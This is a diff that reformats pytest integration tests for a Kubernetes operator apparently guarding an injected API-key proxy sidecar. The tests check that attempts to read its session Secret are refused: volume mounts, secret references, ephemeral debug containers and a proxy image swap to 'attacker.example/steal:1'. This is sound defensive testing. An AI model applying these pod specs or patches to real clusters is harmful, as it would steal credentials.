@@ -15,7 +15,6 @@ import re
 import pytest
 
 from oshu_operator import names as n
-
 from oshu_testkit.kube import pod, wait_for
 
 SESSION_SECRET = n.session_secret_name("claude")
@@ -25,8 +24,17 @@ SESSION_SECRET = n.session_secret_name("claude")
 def session(kube, ns, real):
     kube.secret(ns, "anthropic", {"api-key": real()})
     kube.secret(ns, "corp-config", {"setting": "not-a-key"})
-    kube.session(ns, "claude", [{"name": "ANTHROPIC_API_KEY", "secretKeyRef": {"name": "anthropic", "key": "api-key"},
-                                 "hosts": ["api.anthropic.com"]}])
+    kube.session(
+        ns,
+        "claude",
+        [
+            {
+                "name": "ANTHROPIC_API_KEY",
+                "secretKeyRef": {"name": "anthropic", "key": "api-key"},
+                "hosts": ["api.anthropic.com"],
+            }
+        ],
+    )
     return kube.wait_phase(ns, "claude", n.PHASE_READY)
 
 
@@ -38,24 +46,64 @@ STEAL = {"name": n.VOLUME_SESSION, "mountPath": "/steal"}
 
 #: (id, pod) for issue 12 item 1: the reserved session volume mounted by name, no such volume.
 ITEM_1 = [
-    ("app container", lambda: pod("steal", "claude", [{"name": "app", "image": "busybox", "volumeMounts": [STEAL]}],
-                                  automountServiceAccountToken=False)),
-    ("app container, service account token automounted", lambda: pod(
-        "steal", "claude", [{"name": "app", "image": "busybox", "volumeMounts": [STEAL]}])),
-    ("plain init container", lambda: pod(
-        "steal", "claude", [{"name": "app", "image": "busybox"}], automountServiceAccountToken=False,
-        initContainers=[{"name": "init", "image": "busybox", "volumeMounts": [STEAL]}])),
-    ("container left out by the containers annotation", lambda: pod(
-        "steal", "claude", [{"name": "app", "image": "busybox"},
-                            {"name": "other", "image": "busybox", "volumeMounts": [STEAL]}],
-        annotations={n.ANNOTATION_CONTAINERS: "app"}, automountServiceAccountToken=False)),
-    ("subPath to the session file", lambda: pod(
-        "steal", "claude", [{"name": "app", "image": "busybox", "volumeMounts": [
-            {"name": n.VOLUME_SESSION, "mountPath": "/s.json", "subPath": n.KEY_SESSION_FILE}]}],
-        automountServiceAccountToken=False)),
-    ("opted in by the annotation alone", lambda: pod(
-        "steal", None, [{"name": "app", "image": "busybox", "volumeMounts": [STEAL]}],
-        annotations={n.ANNOTATION_SESSION: "claude"}, automountServiceAccountToken=False)),
+    (
+        "app container",
+        lambda: pod(
+            "steal",
+            "claude",
+            [{"name": "app", "image": "busybox", "volumeMounts": [STEAL]}],
+            automountServiceAccountToken=False,
+        ),
+    ),
+    (
+        "app container, service account token automounted",
+        lambda: pod("steal", "claude", [{"name": "app", "image": "busybox", "volumeMounts": [STEAL]}]),
+    ),
+    (
+        "plain init container",
+        lambda: pod(
+            "steal",
+            "claude",
+            [{"name": "app", "image": "busybox"}],
+            automountServiceAccountToken=False,
+            initContainers=[{"name": "init", "image": "busybox", "volumeMounts": [STEAL]}],
+        ),
+    ),
+    (
+        "container left out by the containers annotation",
+        lambda: pod(
+            "steal",
+            "claude",
+            [{"name": "app", "image": "busybox"}, {"name": "other", "image": "busybox", "volumeMounts": [STEAL]}],
+            annotations={n.ANNOTATION_CONTAINERS: "app"},
+            automountServiceAccountToken=False,
+        ),
+    ),
+    (
+        "subPath to the session file",
+        lambda: pod(
+            "steal",
+            "claude",
+            [
+                {
+                    "name": "app",
+                    "image": "busybox",
+                    "volumeMounts": [{"name": n.VOLUME_SESSION, "mountPath": "/s.json", "subPath": n.KEY_SESSION_FILE}],
+                }
+            ],
+            automountServiceAccountToken=False,
+        ),
+    ),
+    (
+        "opted in by the annotation alone",
+        lambda: pod(
+            "steal",
+            None,
+            [{"name": "app", "image": "busybox", "volumeMounts": [STEAL]}],
+            annotations={n.ANNOTATION_SESSION: "claude"},
+            automountServiceAccountToken=False,
+        ),
+    ),
 ]
 
 
@@ -68,14 +116,19 @@ def test_mount_of_the_session_volume_by_name_is_refused(kube, ns, session, opera
     assert kube.get("pod", "steal", ns) is None
 
 
-@pytest.mark.parametrize("source", [
-    {"csi": {"driver": "secrets-store.csi.k8s.io", "nodePublishSecretRef": {"name": "anthropic"}}},
-    {"projected": {"sources": [{"secret": {"name": "anthropic"}}]}},
-    {"secret": {"secretName": "anthropic"}},
-], ids=["csi nodePublishSecretRef", "projected", "secret"])
+@pytest.mark.parametrize(
+    "source",
+    [
+        {"csi": {"driver": "secrets-store.csi.k8s.io", "nodePublishSecretRef": {"name": "anthropic"}}},
+        {"projected": {"sources": [{"secret": {"name": "anthropic"}}]}},
+        {"secret": {"secretName": "anthropic"}},
+    ],
+    ids=["csi nodePublishSecretRef", "projected", "secret"],
+)
 def test_volume_sources_naming_the_real_secret_are_refused(kube, ns, session, source):
-    made = kube.create(pod("steal", "claude", [{"name": "app", "image": "busybox"}], volumes=[{"name": "v", **source}]),
-                       "-n", ns)
+    made = kube.create(
+        pod("steal", "claude", [{"name": "app", "image": "busybox"}], volumes=[{"name": "v", **source}]), "-n", ns
+    )
     assert not made.ok and rule_ids(made.error) == ["source-secret-reference"], made.error
 
 
@@ -85,6 +138,7 @@ def test_image_pull_secrets_naming_the_session_secret_are_refused(kube, ns, sess
 
 
 # --- issue 12 item 2: ephemeral containers ------------------------------------------------------
+
 
 @pytest.fixture
 def agent(kube, ns, session):
@@ -96,8 +150,18 @@ def agent(kube, ns, session):
 def add_debug(kube, ns, container: dict):
     """`kubectl patch pod agent --subresource=ephemeralcontainers`, exactly as in the issue."""
     patch = json.dumps({"spec": {"ephemeralContainers": [container]}})
-    return kube.kubectl("patch", "pod", "agent", "-n", ns, "--subresource=ephemeralcontainers",
-                        "--type=strategic", "-p", patch, check=False)
+    return kube.kubectl(
+        "patch",
+        "pod",
+        "agent",
+        "-n",
+        ns,
+        "--subresource=ephemeralcontainers",
+        "--type=strategic",
+        "-p",
+        patch,
+        check=False,
+    )
 
 
 def debug_names(kube, ns) -> list[str]:
@@ -106,15 +170,27 @@ def debug_names(kube, ns) -> list[str]:
 
 ITEM_2 = [
     ("envFrom the session Secret", {"envFrom": [{"secretRef": {"name": SESSION_SECRET}}]}, "session-secret-reference"),
-    ("env from the real Secret", {"env": [{"name": "K", "valueFrom": {"secretKeyRef": {
-        "name": "anthropic", "key": "api-key"}}}]}, "source-secret-reference"),
+    (
+        "env from the real Secret",
+        {"env": [{"name": "K", "valueFrom": {"secretKeyRef": {"name": "anthropic", "key": "api-key"}}}]},
+        "source-secret-reference",
+    ),
     ("envFrom the real Secret", {"envFrom": [{"secretRef": {"name": "anthropic"}}]}, "source-secret-reference"),
-    ("env from the session file", {"env": [{"name": "K", "valueFrom": {"secretKeyRef": {
-        "name": SESSION_SECRET, "key": n.KEY_SESSION_FILE}}}]}, "session-secret-reference"),
-    ("mounts the session volume", {"volumeMounts": [{"name": n.VOLUME_SESSION, "mountPath": "/s"}]},
-     "proxy-volume-use"),
-    ("mounts the proxy's scratch volume", {"volumeMounts": [{"name": n.VOLUME_TMP, "mountPath": "/t"}]},
-     "proxy-volume-use"),
+    (
+        "env from the session file",
+        {"env": [{"name": "K", "valueFrom": {"secretKeyRef": {"name": SESSION_SECRET, "key": n.KEY_SESSION_FILE}}}]},
+        "session-secret-reference",
+    ),
+    (
+        "mounts the session volume",
+        {"volumeMounts": [{"name": n.VOLUME_SESSION, "mountPath": "/s"}]},
+        "proxy-volume-use",
+    ),
+    (
+        "mounts the proxy's scratch volume",
+        {"volumeMounts": [{"name": n.VOLUME_TMP, "mountPath": "/t"}]},
+        "proxy-volume-use",
+    ),
     ("targets the proxy", {"targetContainerName": n.SIDECAR_CONTAINER}, "ephemeral-targets-proxy"),
 ]
 
@@ -131,9 +207,17 @@ def test_debug_container_reaching_a_secret_is_refused(kube, ns, agent, operator,
 
 
 def test_ordinary_debug_containers_are_admitted(kube, ns, agent):
-    r = add_debug(kube, ns, {"name": "debug", "image": "busybox", "targetContainerName": "agent",
-                             "envFrom": [{"secretRef": {"name": "corp-config"}}],
-                             "volumeMounts": [{"name": n.VOLUME_CA, "mountPath": "/ca"}]})
+    r = add_debug(
+        kube,
+        ns,
+        {
+            "name": "debug",
+            "image": "busybox",
+            "targetContainerName": "agent",
+            "envFrom": [{"secretRef": {"name": "corp-config"}}],
+            "volumeMounts": [{"name": n.VOLUME_CA, "mountPath": "/ca"}],
+        },
+    )
     assert r.returncode == 0, r.stderr
     wait_for(lambda: debug_names(kube, ns) == ["debug"], 10, "the debug container added")
     # A later one is judged alone: the first stays, the second is refused.
@@ -154,11 +238,13 @@ def test_removing_the_opt_in_label_does_not_open_the_pod_to_debug_containers(kub
 
 # --- siblings: in-place updates of an injected pod -----------------------------------------------
 
+
 def test_an_update_may_not_swap_the_proxy_image(kube, ns, agent, operator):
     """`kubectl set image` may change container images of a running pod; the proxy's would then run
     an image of the updater's choosing with the session Secret mounted."""
-    r = kube.kubectl("set", "image", "pod/agent", "-n", ns, f"{n.SIDECAR_CONTAINER}=attacker.example/steal:1",
-                     check=False)
+    r = kube.kubectl(
+        "set", "image", "pod/agent", "-n", ns, f"{n.SIDECAR_CONTAINER}=attacker.example/steal:1", check=False
+    )
     assert r.returncode != 0 and rule_ids(r.stderr) == ["proxy-container-changed"], r.stderr
     stored = kube.get("pod", "agent", ns)["spec"]["initContainers"][0]
     assert stored == agent["spec"]["initContainers"][0]
